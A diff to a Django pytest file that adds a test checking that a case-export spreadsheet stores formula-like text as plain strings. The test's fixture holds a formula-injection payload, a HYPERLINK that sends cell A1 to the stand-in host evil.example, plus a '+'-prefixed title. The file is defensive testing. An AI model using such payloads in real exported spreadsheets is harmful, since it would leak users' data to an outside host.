@@ -11,8 +11,9 @@ from django.utils import timezone
 from openpyxl import load_workbook
 
 from envgrid.cases import services
-from envgrid.cases.exports import XLSX_CONTENT_TYPE, export_columns
+from envgrid.cases.exports import export_columns
 from envgrid.cases.models import CaseCategory
+from envgrid.core.spreadsheets import XLSX_CONTENT_TYPE
 
 pytestmark = pytest.mark.django_db
 
@@ -95,3 +96,18 @@ def test_export_queries_do_not_grow_with_the_rows(make_case, users, login):
         client.get(reverse("case-export"), {"queue": "all"})
 
     assert len(many) == len(few)
+
+
+def test_a_description_that_looks_like_a_formula_is_exported_as_text(make_case, users, login):
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
+    case = dispatch(make_case(title="+1 冒黄烟", description=formula), users)
+
+    response = login(users["dispatcher"]).get(reverse("case-export"), {"queue": "all"})
+    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
+    headers = [cell.value for cell in sheet[1]]
+    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == case.number)
+    description = row[headers.index(export_columns()[18][0])]
+    title = row[headers.index(export_columns()[1][0])]
+
+    assert (description.value, description.data_type) == (formula, "s")
+    assert (title.value, title.data_type) == ("+1 冒黄烟", "s")
